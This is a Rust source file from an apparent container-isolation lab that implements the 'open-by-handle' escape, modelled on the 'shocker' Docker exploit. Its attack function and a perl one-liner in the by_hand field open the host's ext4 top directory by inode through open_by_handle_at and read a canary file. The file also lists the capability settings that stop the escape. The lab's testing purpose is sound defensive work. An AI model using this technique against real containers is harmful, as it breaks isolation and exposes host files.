//! open-by-handle: open the host's files by their inode numbers.

use super::{Attempt, Measured, Need};
use crate::attacker::Failed;
use crate::refusals::Refusal;
use crate::{Attacker, Host, Seen};
use nix::libc;

/// The attempt.
pub const ATTEMPT: Attempt = Attempt {
    id: "open-by-handle",
    stake: "Every file of a file system of which the container has one directory.",
    story: "A file server finds a file by its handle, in most file systems an inode number, and no path is \
            walked. open_by_handle_at(2) gives that to any program that has CAP_DAC_READ_SEARCH. The attacker \
            takes a volume, which is one directory of a file system of the host's, and asks for inode 2: the top \
            directory of every ext4. From there it opens the canary. No mount, no root directory and no \
            namespace is in its way, only the capability is. The exploit \"shocker\" left the first Docker \
            containers so.",
    by_hand: &[
        "[ -e /dev/null ] || touch /dev/null",
        r#"perl -e 'open V, "/data"; $h = pack "IiII", 8, 1, 2, 0; $d = syscall 304, fileno V, $h, 0; syscall(81, $d) or exec "ls"'    # x86-64"#,
    ],
    stopped_by: &["lab4-capabilities/bounding-set", "lab4-capabilities/capability-sets"],
    after: &[],
    man: &["open_by_handle_at(2)", "capabilities(7)"],
    letters: Measured { root: "E EEEEBBB", user: "I IIIIIII", rootless: "I IIIIIII" },
    needs: &[Need::Ext4Volume],
    decisive: &[libc::SYS_open_by_handle_at, libc::SYS_openat, libc::SYS_openat2, libc::SYS_pread64],
    attack,
    class: Refusal::Handle,
    witness,
};

/// `struct file_handle` with the content that ext4 gives it: its length, FILEID_INO32_GEN (include/linux/exportfs.h),
/// the inode of an ext4's top directory (EXT4_ROOT_INO in fs/ext4/ext4.h), and generation 0, which stands for any.
const TOP: [u32; 4] = [8, 1, 2, 0];

fn attack(me: &mut Attacker) -> Result<(), Failed> {
    let directory = libc::O_RDONLY | libc::O_DIRECTORY;
    let volume = me.in_rootfs(me.given("ext4"));
    let volume = match me.open(&volume, directory) {
        // A container without the volume may still stand on the host's file system.
        Err(Failed::Refused(_)) => me.open("/", directory).map_err(Failed::in_preparation)?,
        opened => opened?,
    };
    let top = me.open_by_handle(volume, TOP.map(u32::to_ne_bytes).concat(), directory)?;
    me.show(top)?;
    me.take_one_of_two(top, &[""], "canary")
}

fn witness(host: &Host) -> Seen {
    if host.took("ext4") {
        return Seen::Effect("the attacker has read a file above its volume, by inode number".into());
    }
    Seen::Nothing
}
